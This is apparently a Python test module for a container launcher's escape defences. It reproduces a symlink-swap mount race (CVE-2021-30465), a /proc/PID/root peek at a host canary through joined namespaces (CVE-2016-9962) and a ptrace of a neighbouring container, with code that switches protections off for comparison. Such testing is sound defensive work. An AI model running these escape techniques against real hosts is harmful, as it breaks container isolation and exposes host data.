"""Attempts with an accomplice: outside of the container, or in another one."""

from __future__ import annotations

import subprocess
from pathlib import Path
from typing import IO, Any

import attrs

from tests.escape import launches
from tests.escape.attacks import calls
from tests.escape.attempt import Attempt, Loosening, Outcome, Profiled, Staged, allow
from tests.escape.world import World
from tests.support import bundles, runs
from tests.support.patience import until

#: Swaps a directory and a link, as fast as it can (renameat2(2), RENAME_EXCHANGE), until it is killed.
SWAPPER = """
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
int main(int count, char **names) {
    puts("ready");
    fflush(stdout);
    while (count == 3 && renameat2(AT_FDCWD, names[1], AT_FDCWD, names[2], RENAME_EXCHANGE) == 0)
        ;
    return 1;
}
"""
#: Looks a place up again and again, with the launcher's own code, and tells of one that lies outside.
LOOK_UP = """
import os as full
from hardening.launch.native import root as building
FIND
def look_up():
    root = building.Root(full.open("FOLDER/root", full.O_PATH | full.O_DIRECTORY), None)
    outside = full.stat("FOLDER/host/inner")
    for _ in range(TIMES):
        try:
            fd = root.find("/place/inner")
        except OSError:
            continue
        if full.path.samestat(full.fstat(fd), outside):
            return "outside"
        full.close(fd)
    return "inside"
print(look_up(), flush=True)
full._exit(0)
"""
#: What simple launchers do: look where a path leads, then go there.
CHECK_AND_USE = """
def find(self, path, flags=full.O_PATH, resolve=0):
    whole = "FOLDER/root" + path
    if not full.path.realpath(whole).startswith("FOLDER/root/"):
        raise OSError(1, "leads out of the root")
    return full.open(whole, flags | full.O_CLOEXEC)
building.Root.find = find
"""
SAFE_TIMES, NAIVE_TIMES = 20_000, 500_000


def mount_race(world: World, on: bool) -> Outcome:
    """A mount point whose directory an accomplice swaps for a link that leads out."""
    with runs.workplace(world.user) as folder:
        for name in ("root/place/inner", "host/inner"):
            (folder / name).mkdir(parents=True)
        (folder / "root/other").symlink_to(folder / "host")
        (folder / "swap.c").write_text(SWAPPER)
        subprocess.run(["gcc", "-O", "-o", str(folder / "swap"), str(folder / "swap.c")], check=True)
        runs.hand_over(folder, world.user)
        code = LOOK_UP.replace("FIND", "" if on else CHECK_AND_USE).replace("FOLDER", str(folder))
        code = code.replace("TIMES", str(SAFE_TIMES if on else NAIVE_TIMES))
        swapper = [str(folder / "swap"), str(folder / "root/place"), str(folder / "root/other")]
        with subprocess.Popen(swapper, stdout=subprocess.PIPE, text=True) as accomplice:
            assert accomplice.stdout is not None
            try:
                assert accomplice.stdout.readline() == "ready\n"
                argv = launches.with_code(bundles.launcher(folder, user=world.user), code)
                done = subprocess.run(argv, capture_output=True, text=True, cwd="/", timeout=120, check=True)
                assert accomplice.poll() is None
            finally:
                accomplice.kill()
    return Outcome(
        done.stdout == "outside\n", "a place outside of the root" if "out" in done.stdout else "never outside"
    )


#: Says that it is there, and waits, as the host's process that it still is, until the accomplice has had its time.
SLOW = """
from hardening.launch.native import identity
import os as full, time
become = identity.BecomeNamespaceRoot.execute
def slowly(self, state):
    full.close(full.open("FOLDER/arrived", full.O_CREAT | full.O_WRONLY))
    while not full.path.exists("FOLDER/seen"):
        time.sleep(0.01)
    become(self, state)
identity.BecomeNamespaceRoot.execute = slowly
"""
WAITING = "echo ready; while :; do sleep 0.1; done"
DUMPABLE = """
from hardening.base.linux import abi, kernel
prctl = kernel.prctl
kernel.prctl = lambda option, *rest: 0 if option == abi.PR_SET_DUMPABLE else prctl(option, *rest)
"""
#: Looks through the root of every other process for the canary of the host, again and again, and says each time what it saw.
PEEPER = """
echo ready
while :; do
    seen=nothing
    read -r since _ </proc/uptime
    for place in /proc/[0-9]*; do
        [ $place = /proc/1 ] && continue
        text=$(cat $place/root$CANARY 2>/dev/null) && [ -n "$text" ] && seen=$text
    done
    echo "$since $seen"
    sleep 0.02
done
"""


def joined(world: World, on: bool) -> Outcome:
    """A process that is about to become a command, seen from the container whose namespaces it joins."""
    stance = bundles.stance("root-mapped" if world.user is None else "user-range")
    canary = world.folder / "secret" / "canary"
    with runs.workplace(world.user) as folder:
        peeper = stance.config("sh", "-c", PEEPER)
        peeper["process"]["env"].append(f"CANARY={canary}")
        for name in ("bounding", "effective", "permitted"):
            peeper["process"]["capabilities"][name] = ["CAP_SYS_PTRACE"]
        first = bundles.write(folder / "first", peeper, user=world.user)
        with bundles.started(first, user=world.user) as (process, pid):
            second = bundles.write(folder / "second", _joining(stance.config("true"), pid), user=world.user)
            code = (SLOW + ("" if on else DUMPABLE)).replace("FOLDER", str(folder))
            argv = launches.with_code(bundles.launcher(second, user=world.user), code)
            with subprocess.Popen(argv, stdin=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True, cwd="/") as victim:
                assert process.stdout is not None
                until(lambda: (folder / "arrived").exists() or victim.poll() is not None)
                seen = _seen(process.stdout)
                Path(folder / "seen").touch()
                _, errors = victim.communicate()
                assert victim.returncode == 0, errors
    return Outcome(seen == world.canary, "the canary, by /proc/PID/root" if seen != "nothing" else "nothing was seen")


def _seen(said: IO[str]) -> str:
    """What the `PEEPER` sees in the first look that begins from now on."""
    now = float(Path("/proc/uptime").read_text().split()[0])
    for line in said:
        since, _, seen = line.strip().partition(" ")
        if float(since) > now:
            return seen
    raise AssertionError("it looks no more")


def _joining(document: dict[str, Any], pid: int) -> dict[str, Any]:
    """A configuration that joins the user and process namespaces of a process."""
    linux = document["linux"]
    for entry in linux["namespaces"]:
        if entry["type"] in ("user", "pid"):
            entry["path"] = f"/proc/{pid}/ns/{entry['type']}"
    del linux["uidMappings"], linux["gidMappings"]
    return document


def neighbour(world: World, on: bool) -> Outcome:
    """The first process of another container, from one that has joined its user and process namespaces."""
    stance = bundles.stance("root-mapped" if world.user is None else "user-range")
    with runs.workplace(world.user) as folder:
        first = bundles.write(folder / "first", stance.config("sh", "-c", WAITING), user=world.user)
        with bundles.started(first, user=world.user) as (_, pid):
            places = {f"namespaces.{kind}": f"/proc/{pid}/ns/{kind}" for kind in ("user", "pid")}
            joining = Loosening({**places, "rootfs.proc.hidepid": "off"})
            tries = Profiled(calls.ptrace, allow("ptrace"), (joining,))
            there = attrs.evolve(world, facts={**world.facts, "pid": 1})
            setup = tries.setup("root", on=on)  # all layers: this user namespace is joined, not done without
            return launches.attack(there, setup, [tries.name], base=launches.strict())[tries.name]


ATTEMPTS = (
    Attempt("ptrace, neighbour", "ptrace(2)", "tracing another container whose namespaces are joined",
            "`seccomp.ptrace`", Staged(neighbour)),
    Attempt("mount race", "CVE-2021-30465", "a mount point that an accomplice swaps for a link that leads out",
            "launcher: places are opened once, below the root",
            Staged(mount_race)),
    Attempt("joined namespaces", "CVE-2016-9962", "the host's root, through a process that joins the container",
            "launcher: not dumpable until execve",
            Staged(joined)),
)  # fmt: skip
